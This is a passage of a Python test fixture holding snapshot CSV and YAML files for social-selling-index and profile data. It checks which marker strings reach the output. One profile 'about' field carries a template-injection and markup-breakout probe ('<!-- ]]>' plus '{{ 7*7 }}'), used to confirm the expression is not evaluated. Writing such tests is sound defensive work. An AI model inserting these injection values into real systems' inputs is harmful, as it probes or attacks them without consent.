        {"snapshots/ssi.csv": "member,date,ssi.brand,ssi.people,ssi.insights,ssi.relationships,"
                               "ssi.industry_name\n"
                               f"alice,2026-06-01,15.5,12.25,10,14,{INDUSTRY_NAME}\n"
                               f"bob,2026-06-01,9,8.5,7.75,11,{INDUSTRY_NAME}\n",
         "snapshots/profiles.yml": "- member: alice\n"
                                   "  date: 2026-06-01\n"
                                   "  profile:\n"
                                   "    photo: true\n"
                                   f"    headline: 'MKHEAD {X1} {X3}'\n"
                                   f"    about: 'MKABOUT {X2} <!-- ]]> {{{{ 7*7 }}}}'\n"
                                   "    current_position:\n"
                                   f"      title: 'MKPOS {X1}'\n"
                                   f"      description: 'MKPOSDESC {X2}'\n"
                                   "    skills: 12\n"},
        marked=(f"MKINDNAME {X1} {X2}", f"MKHEAD {X1} {X3}",
                f"MKABOUT {X2} <!-- ]]> {{{{ 7*7 }}}}", f"MKPOS {X1}", f"MKPOSDESC {X2}"),
        absent=("MKABOUT 49",)),
}
